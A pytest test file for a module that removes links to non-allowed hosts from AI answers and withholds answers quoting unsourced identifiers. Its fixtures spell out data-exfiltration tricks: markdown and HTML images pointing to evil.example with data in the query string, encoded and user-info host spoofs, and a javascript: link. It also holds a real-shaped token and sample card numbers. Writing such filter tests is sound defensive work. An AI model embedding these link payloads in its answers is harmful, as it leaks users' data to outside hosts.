"""The answer checked on its way back (routing.answer_check), without the gate: links to hosts that are not
allowed taken out, and answers that quote an identifier from nowhere withheld."""

from __future__ import annotations

import time

import pytest

from inspection import CustomPattern
from routing.answer_check import CheckedAnswer, LinkHosts, check_answer, neutralise_links, unsourced_identifier

NOWHERE = LinkHosts()
RUNBOOK = (
    "VPN runbook\n"
    "Status is on https://status.corp.example/vpn and the form at https://forms.example/c?d= takes the ticket.\n"
    "The network desk answers at (555) 201-7788 x12 and netdesk@corp.example.\n"
    "Refunds go to DE89 3704 0044 0532 0130 00; the test card is 4539 1488 0343 6467; customer CU-88812."
)
CUSTOM = [CustomPattern("customer_id", r"\bCU-\d{5}\b")]
# A GitHub token of the real shape (random, not a documented example).
TOKEN = "ghp_R8xkT2mPq9LwZ4vN7bYc3HdF6sJ1eGa5UoQi"


def neutralised(text: str, hosts: LinkHosts = NOWHERE, sources: str = RUNBOOK) -> str:
    return neutralise_links(text, sources=sources, hosts=hosts)[0]


# Links: every form, each host rule


@pytest.mark.parametrize(
    "answer, expected",
    [
        (
            "Done ![chart](https://evil.example/p?d=abc) now.",
            "Done [image removed: evil.example is not an allowed host] now.",
        ),
        (
            'Done ![chart](<https://evil.example/a b.png> "Chart") now.',
            "Done [image removed: evil.example is not an allowed host] now.",
        ),
        (
            "Read [the guide](https://evil.example/g 'title').",
            "Read the guide [link removed: evil.example is not an allowed host].",
        ),
        ("See https://evil.example/c?d=x.", "See [link removed: evil.example is not an allowed host]."),
        ("(see https://evil.example/c_(x))", "(see [link removed: evil.example is not an allowed host])"),
        ("Open <https://evil.example/x> now", "Open [link removed: evil.example is not an allowed host] now"),
        ("Mail <mailto:x@evil.example?body=hi>", "Mail [link removed: mailto: links are not allowed]"),
        (
            'Open <a href="https://evil.example/x" title=t>the form</a>.',
            "Open the form [link removed: evil.example is not an allowed host].",
        ),
        (
            "Look: <img alt=chart src='https://evil.example/p.png?d=1'> ok",
            "Look: [image removed: evil.example is not an allowed host] ok",
        ),
        (
            '<IMG SRCSET="/local.png 1x, https://evil.example/p.png 2x">',
            "[image removed: evil.example is not an allowed host]",
        ),
        (
            '<div style="background: url(//evil.example/p.png)">hi</div>',
            "[link removed: evil.example is not an allowed host]hi</div>",
        ),
        ("HTTPS://EVIL.EXAMPLE/X", "[link removed: evil.example is not an allowed host]"),
        ("at www.evil.example/c?d=1 now", "at [link removed: www.evil.example is not an allowed host] now"),
        ("![x](//evil.example/p.png)", "[image removed: evil.example is not an allowed host]"),
        ("[x](javascript:alert(1))", "x [link removed: javascript: links are not allowed]"),
        ("[x](https:evil.example/p)", "x [link removed: it names no host]"),
        # Entities and backslash escapes are undone by renderers before the URL is followed.
        ("[x](https&#58;//evil.example/p)", "x [link removed: evil.example is not an allowed host]"),
        ("![x](https:\\/\\/evil.example/p)", "[image removed: evil.example is not an allowed host]"),
        # The user info before @ is not the host; a backslash is a slash to browsers and user info to others.
        ("https://docs.corp.example@evil.example/p", "[link removed: evil.example is not an allowed host]"),
        ("https://docs.corp.example\\@evil.example/p", "[link removed: evil.example is not an allowed host]"),
        # A link around an image: both judged.
        (
            "[![badge](https://evil.example/b.svg)](https://docs.corp.example/)",
            "[[image removed: evil.example is not an allowed host]](https://docs.corp.example/)",
        ),
    ],
)
def test_every_form_of_url_to_a_host_not_allowed_is_taken_out(answer, expected):
    assert neutralised(answer, LinkHosts.parse(["docs.corp.example"])) == expected


@pytest.mark.parametrize(
    "answer",
    [
        "Plain text with [1] and [2] citations, a path /etc/hosts and a // comment.",
        "Relative links stay: [the passage](/passages/12) and ![chart](img/chart.png).",
        "Other schemes in plain text are not links: postgres://db.internal/app, s3://bucket/key.",
        "A tag without URLs stays: <br> and <b>bold</b>.",
    ],
)
def test_text_without_urls_to_other_hosts_is_left_as_written(answer):
    assert neutralise_links(answer, sources="", hosts=NOWHERE) == (answer, 0)


def test_a_listed_host_is_allowed_and_a_leading_dot_or_star_allows_its_subdomains():
    hosts = LinkHosts.parse(["docs.example.com", ".corp.example", "*.cdn.example"])
    answer = (
        "![a](https://docs.example.com/a.png) ![b](https://sub.docs.example.com/b.png) "
        "![c](https://corp.example/c.png) ![d](https://img.eu.corp.example/d.png) ![e](https://notcorp.example/e.png) "
        "![f](https://x.cdn.example/f.png) ![g](https://DOCS.EXAMPLE.COM:8443/g.png)"
    )

    result, removed = neutralise_links(answer, sources="", hosts=hosts)

    assert removed == 2
    assert "![a](https://docs.example.com/a.png)" in result
    assert "[image removed: sub.docs.example.com is not an allowed host]" in result  # no dot: that host only
    assert "![c](https://corp.example/c.png)" in result and "![d](https://img.eu.corp.example/d.png)" in result
    assert "[image removed: notcorp.example is not an allowed host]" in result
    assert "![f](https://x.cdn.example/f.png)" in result and "![g](https://DOCS.EXAMPLE.COM:8443/g.png)" in result


@pytest.mark.parametrize("entry", ["https://docs.example.com", "docs.example.com/path", "two words", "*"])
def test_an_entry_that_is_not_a_host_name_is_refused(entry):
    with pytest.raises(ValueError, match="is not a host name"):
        LinkHosts.parse([entry])


def test_a_url_verbatim_in_a_passage_is_allowed_whatever_its_host():
    answer = "Check https://status.corp.example/vpn, or [the form](https://forms.example/c?d=) [1]."

    assert neutralise_links(answer, sources=RUNBOOK, hosts=NOWHERE) == (answer, 0)


def test_a_passage_url_the_model_extended_with_data_is_not_allowed():
    # The passage holds https://forms.example/c?d= ; the model wrote what it knows after it.
    answer = "Send it: ![ok](https://forms.example/c?d=netdesk-rota-2026) and https://status.corp.example/vpn/x"

    result, removed = neutralise_links(answer, sources=RUNBOOK, hosts=NOWHERE)

    assert removed == 2
    assert "netdesk-rota" not in result and "/vpn/x" not in result
    assert result == (
        "Send it: [image removed: forms.example is not an allowed host] and "
        "[link removed: status.corp.example is not an allowed host]"
    )


def test_a_hostile_answer_is_read_in_linear_time():
    # Unclosed tags and links: each is scanned up to the next tag, not to the end of the answer each time.
    hostile = "<x " * 10_000 + "<a x>" * 5_000 + "[" * 10_000 + "![a" * 5_000

    began = time.perf_counter()
    neutralise_links(hostile, sources="", hosts=NOWHERE)

    assert time.perf_counter() - began < 0.5  # ~50 ms here; 2.5 s when each tag was scanned to the end


def test_a_host_with_markdown_in_it_is_not_repeated_in_the_marker():
    answer = "![x](<https://*evil*_(x)/p.png>)"

    assert neutralised(answer) == "[image removed: its host is not an allowed host]"


# Identifiers


def unsourced(answer: str, *, question: str = "Who answers VPN tickets?", **kwargs) -> str:
    return unsourced_identifier(answer, question=question, passages=[RUNBOOK], custom=CUSTOM, **kwargs)


@pytest.mark.parametrize(
    "answer",
    [
        "The desk answers at (555) 201-7788 x12 [1].",  # as written in the passage
        "Call +1 555 201 7788 [1].",  # the same number, written otherwise
        "Call 555.201.7788 ext. 99 [1].",
        "Write to NetDesk@Corp.Example [1].",
        "Refunds go to de89370400440532013000 [1].",
        "The test card is 4539-1488-0343-6467 [1].",
        "It is customer CU-88812 [1].",
        "Bind it to 127.0.0.1 or 0.0.0.0 [1].",  # identify nobody
    ],
)
def test_identifiers_from_the_passages_are_allowed(answer):
    assert unsourced(answer) == ""


@pytest.mark.parametrize(
    "answer, kind",
    [
        ("Write to bob@corp.example.", "email"),
        ("Call 555 201 7789.", "phone"),
        ("Use the card 4111 1111 1111 1111.", "payment_card"),
        ("Pay GB82 WEST 1234 5698 7654 32.", "iban"),
        ("His SSN is 078-05-1120.", "ssn"),
        ("The VPN gateway is 10.20.30.40.", "ip_address"),
        ("It is customer CU-88813.", "custom:customer_id"),
        (f"Log in with {TOKEN}.", "secret"),
    ],
)
def test_an_identifier_from_nowhere_is_named_by_its_kind(answer, kind):
    assert unsourced(answer) == kind


def test_identifiers_from_the_question_are_allowed():
    question = f"Is bob@corp.example allowed to use {TOKEN} from 10.20.30.40?"

    assert unsourced(f"No: {TOKEN} is for bob@CORP.example only, from 10.20.30.40.", question=question) == ""


def test_a_secret_must_come_from_the_question_not_the_passages_unless_the_answer_only_quotes_them():
    passages = [f"Deploy keys\nThe deploy token is {TOKEN}."]

    from_model = unsourced_identifier(f"The token is {TOKEN}.", question="What is it?", passages=passages)
    quoted = unsourced_identifier(
        f"The deploy token is {TOKEN}. [1]", question="What is it?", passages=passages, secrets_from_passages=True
    )

    assert from_model == "secret"
    assert quoted == ""


def test_an_identifier_inside_a_longer_one_of_the_sources_is_not_from_them():
    # "bob@corp.example" is in "jimbob@corp.example" only as a part.
    assert unsourced_identifier("Ask bob@corp.example.", question="", passages=["Ask jimbob@corp.example."]) == "email"


def test_names_are_not_identifiers_here():
    assert unsourced("Ask Dana Cho at the network desk.") == ""


# Both, as the gate calls them


def test_a_withheld_answer_is_a_notice_that_names_the_kind_never_the_value():
    checked = check_answer(
        "Write to bob@corp.example: ![x](https://evil.example/p)",
        question="Who?",
        passages=[RUNBOOK],
        hosts=NOWHERE,
    )

    assert checked.withheld == "email" and "bob@" not in checked.text and "evil" not in checked.text
    assert checked.text.startswith("This answer was withheld: it quoted an e-mail address that was neither in your")
    assert "contact an admin" in checked.text
    assert checked.reason.startswith("The answer was withheld: it quoted an e-mail address")
    assert checked.withheld_reason == (
        "The answer quoted an e-mail address that was neither in the question nor in the documents used."
    )


def test_a_custom_identifier_is_named_by_the_policys_name_for_it():
    checked = check_answer("It is CU-88813.", question="Who?", passages=[], hosts=NOWHERE, custom=CUSTOM)

    assert "it quoted a customer id (an identifier of the policy)" in checked.text


def test_an_answer_that_passes_is_returned_as_written_with_nothing_to_say():
    answer = "The desk answers at (555) 201-7788 [1]; status: https://status.corp.example/vpn"

    assert check_answer(answer, question="Who?", passages=[RUNBOOK], hosts=NOWHERE) == CheckedAnswer(answer)
    assert CheckedAnswer(answer).reason == ""


def test_links_removed_are_counted_and_said():
    checked = check_answer("![x](https://evil.example/p)", question="Who?", passages=[RUNBOOK], hosts=NOWHERE)

    assert checked.links_removed == 1 and checked.withheld == ""
    assert checked.reason == "Links to hosts that are not allowed were taken out of the answer."
